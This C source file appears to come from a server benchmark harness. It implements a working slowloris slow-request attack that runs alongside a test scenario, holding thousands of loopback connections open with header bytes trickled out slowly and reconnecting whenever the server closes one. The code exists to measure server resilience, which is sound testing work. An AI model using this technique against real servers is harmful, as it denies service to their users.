/* slowloris.c — `--slowloris N`: a slow-request attack alongside any
 * scenario (issue 12), so that the scenario's figures (say, a legitimate
 * client's 1:1 ack latency) are measured while N connections hold the
 * server's attention for almost no bandwidth.
 *
 * Each attacker process (one per SLOW_PER_PROC connections: the open-file
 * cap is per process) keeps its share of connections open, each bound to
 * one of many 127.1.x.y source addresses (the legitimate workers use
 * 127.0.x.y), each sending the start of a request head and then one more
 * byte of a never-ending header every SLOW_TRICKLE_MS. A connection the
 * server closes (its request deadline: 408) is counted and opened again at
 * once, so the pressure stays at N for the whole run. Attackers stop by
 * themselves after their deadline even if the coordinator is gone.
 *
 * Pipe protocol, coordinator <-> attacker (struct pmsg, bench.h):
 *   attacker --MSG_READY(a = connections open)--> (all open, or 30 s passed)
 *   coordinator --CMD_GO--> : attacker samples its open count every 100 ms
 *   coordinator --CMD_STOP--> ; attacker --MSG_RESULT + slreport--> */
#include "bench.h"
#include "base/alloc.h"
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <poll.h>
#include <signal.h>
#include <stdio.h>
#include <string.h>
#include <sys/epoll.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <unistd.h>

#define SLOW_PER_PROC 6000
#define SLOW_ADDRS 64               /* source addresses per attacker */
#define SLOW_TRICKLE_MS 2000        /* one byte per connection this often */
#define SLOW_CONNECTING_MAX 512     /* connects in progress per attacker */
#define SLOW_READY_WAIT_NS (30ull * 1000000000ull)

enum { SL_FREE = 0, SL_CONNECTING, SL_OPEN };

typedef struct slconn {
    int fd;
    int state;
    uint64_t next_ns;               /* SL_OPEN: when its next byte goes */
} slconn;

typedef struct attacker {
    const bparams *p;
    int idx, n, ep, to, from;
    slconn *c;
    int connecting, open;
    uint32_t next_addr;
    slreport r;
    int measuring;
    uint64_t samples, open_sum;
} attacker;

static void sl_close(attacker *a, int i, int by_server)
{
    slconn *c = &a->c[i];
    if (c->state == SL_OPEN) a->open--;
    if (c->state == SL_CONNECTING) a->connecting--;
    if (by_server) a->r.closed_by_server++;
    close(c->fd);
    c->fd = -1;
    c->state = SL_FREE;
}

/* Starts a non-blocking connect for connection i; 0, or -1 (counted). */
static int sl_open(attacker *a, int i)
{
    slconn *c = &a->c[i];
    int fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
    if (fd < 0) {
        a->r.connect_failed++;
        return -1;
    }
    struct sockaddr_in src = { .sin_family = AF_INET };
    uint32_t k = a->next_addr++ % SLOW_ADDRS;
    src.sin_addr.s_addr = htonl((127u << 24) | (1u << 16) | ((uint32_t)(a->idx + 1) << 8) | (k + 1));
    struct sockaddr_in dst = { .sin_family = AF_INET, .sin_port = htons((uint16_t)a->p->port) };
    inet_pton(AF_INET, a->p->host, &dst.sin_addr);
    if (bind(fd, (struct sockaddr *)&src, sizeof src) != 0 ||
        (connect(fd, (struct sockaddr *)&dst, sizeof dst) != 0 && errno != EINPROGRESS)) {
        close(fd);
        a->r.connect_failed++;
        return -1;
    }
    struct epoll_event ev = { .events = EPOLLOUT | EPOLLIN | EPOLLRDHUP, .data.u32 = (uint32_t)i };
    epoll_ctl(a->ep, EPOLL_CTL_ADD, fd, &ev);
    c->fd = fd;
    c->state = SL_CONNECTING;
    a->connecting++;
    a->r.opened++;
    return 0;
}

static void sl_connected(attacker *a, int i, uint64_t now)
{
    slconn *c = &a->c[i];
    int err = 0;
    socklen_t el = sizeof err;
    if (getsockopt(c->fd, SOL_SOCKET, SO_ERROR, &err, &el) != 0 || err) {
        a->r.connect_failed++;
        sl_close(a, i, 0);
        return;
    }
    static const char head[] = "GET /v1/discovery HTTP/1.1\r\nHost: bench\r\nX-Slow: ";
    if (send(c->fd, head, sizeof head - 1, MSG_NOSIGNAL) != (ssize_t)(sizeof head - 1)) {
        sl_close(a, i, 1);
        return;
    }
    struct epoll_event ev = { .events = EPOLLIN | EPOLLRDHUP, .data.u32 = (uint32_t)i };
    epoll_ctl(a->ep, EPOLL_CTL_MOD, c->fd, &ev);
    a->connecting--;
    a->open++;
    c->state = SL_OPEN;
    c->next_ns = now + (uint64_t)SLOW_TRICKLE_MS * 1000000ull * (uint64_t)(i % 16 + 1) / 16;
}

/* The server answered (a 408) or closed: count, and open again later. */
static void sl_readable(attacker *a, int i)
{
    char buf[512];
    ssize_t r = recv(a->c[i].fd, buf, sizeof buf, 0);
    if (r > 0 && r >= 12 && !memcmp(buf, "HTTP/1.1 408", 12)) a->r.answered_408++;
    if (r == 0 || r > 0 || (errno != EAGAIN && errno != EINTR)) sl_close(a, i, 1);
}

static void sl_report_send(attacker *a)
{
    pmsg m = { .kind = MSG_RESULT };
    a->r.open_end = (uint64_t)a->open;
    a->r.open_mean = a->samples ? a->open_sum / a->samples : (uint64_t)a->open;
    bench_write_full(a->to, &m, sizeof m);
    bench_write_full(a->to, &a->r, sizeof a->r);
}

static int attacker_main(const bparams *p, int idx, int n, int to, int from)
{
    attacker a = { .p = p, .idx = idx, .n = n, .to = to, .from = from };
    a.r.open_min = UINT64_MAX;
    a.c = iy_calloc((size_t)n, sizeof *a.c);
    a.ep = epoll_create1(EPOLL_CLOEXEC);
    for (int i = 0; i < n; i++) a.c[i].fd = -1;
    struct epoll_event cev = { .events = EPOLLIN, .data.u32 = UINT32_MAX };
    epoll_ctl(a.ep, EPOLL_CTL_ADD, from, &cev);
    uint64_t start = bench_now_ns(), deadline = start + (uint64_t)((p->warmup + p->duration + 180) * 1e9);
    uint64_t next_sample = 0;
    int ready_sent = 0, scan = 0;
    struct epoll_event evs[256];
    for (;;) {
        uint64_t now = bench_now_ns();
        if (now > deadline) break;   /* stops by itself */
        /* (Re)open free connections, a bounded number in progress. */
        for (int k = 0; k < n && a.connecting < SLOW_CONNECTING_MAX; k++, scan = (scan + 1) % n)
            if (a.c[scan].state == SL_FREE && sl_open(&a, scan) != 0) break;
        if (!ready_sent && (a.open == n || now - start > SLOW_READY_WAIT_NS)) {
            pmsg m = { .kind = MSG_READY, .a = (uint64_t)a.open };
            bench_write_full(to, &m, sizeof m);
            ready_sent = 1;
        }
        int ne = epoll_wait(a.ep, evs, 256, 20);
        now = bench_now_ns();
        for (int e = 0; e < ne; e++) {
            uint32_t i = evs[e].data.u32;
            if (i == UINT32_MAX) {
                pmsg m;
                if (bench_read_full(from, &m, sizeof m) != 0) goto out;
                if (m.kind == CMD_GO) a.measuring = 1;
                else if (m.kind == CMD_STOP) {
                    sl_report_send(&a);
                    goto out;
                }
                continue;
            }
            if (a.c[i].state == SL_CONNECTING && (evs[e].events & (EPOLLOUT | EPOLLERR | EPOLLHUP)))
                sl_connected(&a, (int)i, now);
            else if (a.c[i].state == SL_OPEN && (evs[e].events & (EPOLLIN | EPOLLRDHUP | EPOLLERR | EPOLLHUP)))
                sl_readable(&a, (int)i);
        }
        /* One more byte of the header for every connection that is due. */
        for (int i = 0; i < n; i++) {
            slconn *c = &a.c[i];
            if (c->state != SL_OPEN || c->next_ns > now) continue;
            if (send(c->fd, "a", 1, MSG_NOSIGNAL) != 1) sl_close(&a, i, 1);
            else {
                a.r.bytes++;
                c->next_ns = now + (uint64_t)SLOW_TRICKLE_MS * 1000000ull;
            }
        }
        if (a.measuring && now >= next_sample) {
            if ((uint64_t)a.open < a.r.open_min) a.r.open_min = (uint64_t)a.open;
            a.open_sum += (uint64_t)a.open;
            a.samples++;
            next_sample = now + 100000000ull;
        }
    }
out:
    for (int i = 0; i < n; i++)
        if (a.c[i].fd >= 0) close(a.c[i].fd);
    close(a.ep);
    iy_free(a.c);
    return 0;
}

int slowloris_start(const bparams *p, slattack *s)
{
    memset(s, 0, sizeof *s);
    int left = p->slowloris;
    for (s->n = 0; left > 0 && s->n < SLOW_MAX_PROCS; s->n++) {
        int share = left < SLOW_PER_PROC ? left : SLOW_PER_PROC;
        int a[2], b[2];
        if (pipe(a) != 0 || pipe(b) != 0) return -1;
        pid_t pid = fork();
        if (pid < 0) return -1;
        if (pid == 0) {
            close(a[0]);
            close(b[1]);
            for (int k = 0; k < s->n; k++) {
                close(s->up[k]);
                close(s->down[k]);
            }
            _exit(attacker_main(p, s->n, share, a[1], b[0]));
        }
        close(a[1]);
        close(b[0]);
        s->up[s->n] = a[0];
        s->down[s->n] = b[1];
        s->pid[s->n] = pid;
        left -= share;
    }
    for (int i = 0; i < s->n; i++) {
        pmsg m;
        if (bench_read_full(s->up[i], &m, sizeof m) != 0 || m.kind != MSG_READY) return -1;
        s->open_at_start += m.a;
    }
    return 0;
}

void slowloris_go(slattack *s)
{
    pmsg m = { .kind = CMD_GO };
    for (int i = 0; i < s->n; i++) bench_write_full(s->down[i], &m, sizeof m);
}

int slowloris_stop(slattack *s, slreport *total)
{
    memset(total, 0, sizeof *total);
    total->open_min = 0;
    int rc = 0;
    const pmsg stop = { .kind = CMD_STOP };
    for (int i = 0; i < s->n; i++) {
        slreport r;
        pmsg m;
        if (bench_write_full(s->down[i], &stop, sizeof stop) != 0 || bench_read_full(s->up[i], &m, sizeof m) != 0 ||
            m.kind != MSG_RESULT || bench_read_full(s->up[i], &r, sizeof r) != 0) {
            rc = -1;
            kill(s->pid[i], SIGTERM);   /* our own attacker only */
        } else {
            total->opened += r.opened;
            total->closed_by_server += r.closed_by_server;
            total->answered_408 += r.answered_408;
            total->connect_failed += r.connect_failed;
            total->bytes += r.bytes;
            total->open_end += r.open_end;
            total->open_mean += r.open_mean;
            /* The sum of the attackers' minimums: a lower bound of the true minimum of the sum. */
            total->open_min += r.open_min == UINT64_MAX ? 0 : r.open_min;
        }
        close(s->down[i]);
        close(s->up[i]);
        int st;
        waitpid(s->pid[i], &st, 0);
    }
    return rc;
}
